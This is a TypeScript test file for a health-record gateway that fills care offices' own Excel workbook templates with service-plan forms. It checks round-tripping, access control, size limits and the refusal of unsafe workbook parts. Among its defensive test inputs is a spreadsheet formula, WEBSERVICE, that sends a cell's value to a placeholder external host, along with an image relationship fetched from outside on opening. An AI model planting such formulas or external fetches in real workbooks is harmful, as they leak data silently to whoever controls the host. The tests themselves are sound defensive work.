import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, test } from 'vitest';
import { isRefusal } from '#fhir';
import { type Form, loadMapping, type Mapping } from '../../src/mapping/index.ts';
import { readForm, writeForm } from '../../src/paper/index.ts';
import { issuesOf, PERSON_B, sandboxGateway } from '../gateway.ts';
import { withPart } from '../mapping/zip-parts.ts';
import { consentFor } from './partly-consented.ts';

const gateway = await sandboxGateway();
const OFFICE = 'soudan-hikari';
const OCTETS = { 'Content-Type': 'application/octet-stream' };
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const codesOf = (answer: any): string[] => issuesOf(answer).map(({ code }) => code);
const mapping = loadMapping('service-plan-draft') as Mapping;
if (isRefusal(mapping)) throw new Error('the mapping is not there');

let plan = '';
let form: Form;
let paper: Uint8Array;

const fill = (body: unknown, { who = OFFICE, id = plan, query = '' } = {}) =>
  gateway.call(who, 'POST', `/fhir/CarePlan/${id}/$form?${query}`, body as Uint8Array, OCTETS);
const parameters = (...more: object[]) =>
  JSON.stringify({
    resourceType: 'Parameters',
    parameter: [{ name: 'template', valueBase64Binary: Buffer.from(paper).toString('base64') }, ...more],
  });
const textsOf = ({ fields, tables }: Form) =>
  [fields, ...Object.values(tables).flatMap((rows) => rows.map((row) => row.fields))].map((all) =>
    Object.fromEntries(Object.entries(all).map(([field, { value }]) => [field, value])),
  );
const read = async (bytes: Uint8Array): Promise<Form> => {
  const back = await readForm(mapping, bytes, 'xlsx');
  if (isRefusal(back)) throw new Error(JSON.stringify(back));
  return back;
};

/** The empty paper of the office, with a colour of its own. */
async function emptyPaper(): Promise<Uint8Array> {
  const needs = (form.tables['needs'] ?? []).map(({ key }) => ({ ...(key && { key }), fields: {} }));
  const bytes = await writeForm(mapping, { ...form, fields: {}, ids: {}, tables: { needs } }, 'xlsx');
  if (isRefusal(bytes)) throw new Error(JSON.stringify(bytes));
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer as ArrayBuffer);
  workbook.removeWorksheet('_meta');
  const [sheet] = workbook.worksheets;
  if (sheet !== undefined) sheet.properties.tabColor = { argb: 'FF00AA55' };
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

beforeAll(async () => {
  await consentFor(gateway.call);
  const drafted = await gateway.call(OFFICE, 'POST', `/fhir/Patient/${PERSON_B}/$draft-service-plan`);
  plan = drafted.json.entry.map(({ resource }: any) => resource).find((one: any) => one.resourceType === 'CarePlan').id;
  form = (await gateway.call(OFFICE, 'GET', `/fhir/CarePlan/${plan}/$form`)).json;
  paper = await emptyPaper();
});

describe('the office’s own workbook', () => {
  test('comes as the body or in Parameters, and goes back filled, with its looks, and reads back as the same form', async () => {
    const binary = { name: 'template', resource: { resourceType: 'Binary', contentType: XLSX, data: '' } };
    binary.resource.data = Buffer.from(paper).toString('base64');
    const bodies = [paper, parameters(), JSON.stringify({ resourceType: 'Parameters', parameter: [binary] })];
    for (const body of bodies) {
      const answer = await fill(body);
      expect([answer.status, answer.headers.get('content-type')], JSON.stringify(answer.json)).toEqual([200, XLSX]);
      expect(answer.headers.get('content-disposition')).toContain('filename="service-plan-draft.xlsx"');
      expect(textsOf(await read(answer.bytes))).toEqual(textsOf(form));
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(new Uint8Array(answer.bytes).buffer as ArrayBuffer);
      expect(workbook.worksheets[0]?.properties.tabColor).toEqual({ argb: 'FF00AA55' });
    }
  });

  test('what the record and the workbook lose by it is told instead where that is asked for', async () => {
    const drawn = withPart(paper, 'xl/charts/chart1.xml', '<c:chartSpace/>');
    const answer = await fill(drawn, { query: 'report=true' });
    expect([answer.status, answer.json.resourceType]).toEqual([200, 'OperationOutcome']);
    expect(codesOf(answer.json)).toEqual(expect.arrayContaining(['mapping-out-of-form', 'template-part-lost']));
  });

  test('who may not see the record is told the same as of one that does not exist', async () => {
    const hidden = await fill(paper, { who: 'soudan-minato' });
    const absent = await fill(paper, { who: 'soudan-minato', id: '00000000-0000-4000-8000-000000000000' });
    expect([hidden.status, codesOf(hidden.json)]).toEqual([404, ['not-found']]);
    expect([absent.status, codesOf(absent.json)]).toEqual([404, ['not-found']]);
  });

  test.each([
    ['a macro', 'xl/vbaProject.bin', 'macro'],
    ['a link to another workbook', 'xl/externalLinks/externalLink1.xml', '<externalLink/>'],
    ['a data connection', 'xl/connections.xml', '<connections/>'],
    ['an embedded object', 'xl/embeddings/oleObject1.bin', 'object'],
    [
      'a picture that is fetched when it is opened',
      'xl/drawings/_rels/drawing9.xml.rels',
      '<Relationships><Relationship Id="r" Type="http://x/relationships/image" Target="https://x.example/i" TargetMode="External"/></Relationships>',
    ],
    [
      'a formula that asks a server',
      'xl/worksheets/sheet9.xml',
      '<worksheet><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://x.example/"&amp;B1)</f></c></row></sheetData></worksheet>',
    ],
  ])('%s is refused, in both languages and by its part', async (_, name, content) => {
    const answer = await fill(withPart(paper, name, content));
    expect([answer.status, codesOf(answer.json)]).toEqual([422, ['template-unsafe']]);
    const [issue] = issuesOf(answer.json);
    expect([issue?.ja, issue?.en].every((words) => words?.includes(name))).toBe(true);
  });

  test('a link that somebody clicks on is none that leads out by itself', async () => {
    const rels =
      '<Relationships><Relationship Id="r" Type="http://x/relationships/hyperlink" Target="https://x.example" TargetMode="External"/></Relationships>';
    expect((await fill(withPart(paper, 'xl/worksheets/_rels/sheet9.xml.rels', rels))).status).toBe(200);
  });

  test.each([
    ['nothing', '', 400, 'template-missing'],
    ['Parameters without a template', '{"resourceType":"Parameters"}', 400, 'template-missing'],
    ['no workbook', 'PK not a workbook', 400, 'form-unreadable'],
  ])('%s is refused', async (_, body, status, code) => {
    const answer = await fill(body);
    expect([answer.status, codesOf(answer.json)]).toEqual([status, [code]]);
  });

  test('one that unpacks to more than a form can be is refused before it is opened', async () => {
    const large = new ExcelJS.Workbook();
    const sheet = large.addWorksheet('大');
    for (let row = 1; row <= 350; row += 1) sheet.getCell(row, 1).value = `${'x'.repeat(32_000)}${row}`;
    const answer = await fill(new Uint8Array(await large.xlsx.writeBuffer()));
    expect([answer.status, codesOf(answer.json)]).toEqual([413, ['form-too-large']]);
  });

  test('another format, and a paper that has no room for what the form says, are refused', async () => {
    const format = await fill(paper, { query: 'format=pdf' });
    expect([format.status, codesOf(format.json)]).toEqual([400, ['operation-value-invalid']]);
    const blank = new ExcelJS.Workbook();
    blank.addWorksheet('白紙');
    const misfit = await fill(new Uint8Array(await blank.xlsx.writeBuffer()));
    expect([misfit.status, new Set(codesOf(misfit.json))]).toEqual([422, new Set(['template-misfit'])]);
  });
});

test('a Bundle is converted onto a workbook that comes beside it', async () => {
  const bundle = JSON.parse(readFileSync('examples/service-plan-draft/bundle.json', 'utf8'));
  const convert = (...more: object[]) => gateway.call(OFFICE, 'POST', '/fhir/$convert', parameters(...more), OCTETS);
  const mappingNamed = { name: 'mapping', valueString: 'service-plan-draft' };
  const answer = await convert(mappingNamed, { name: 'input', resource: bundle });
  const output = answer.json.parameter?.find(({ name }: any) => name === 'output').resource;
  expect([answer.status, output?.contentType]).toEqual([200, XLSX]);
  const example: Form = JSON.parse(readFileSync('examples/service-plan-draft/form.json', 'utf8'));
  expect(textsOf(await read(Buffer.from(output.data, 'base64')))).toEqual(textsOf(example));
  const back = await convert(mappingNamed, { name: 'input', valueString: JSON.stringify(example) });
  expect([back.status, codesOf(back.json)]).toEqual([400, ['operation-value-invalid']]);
});
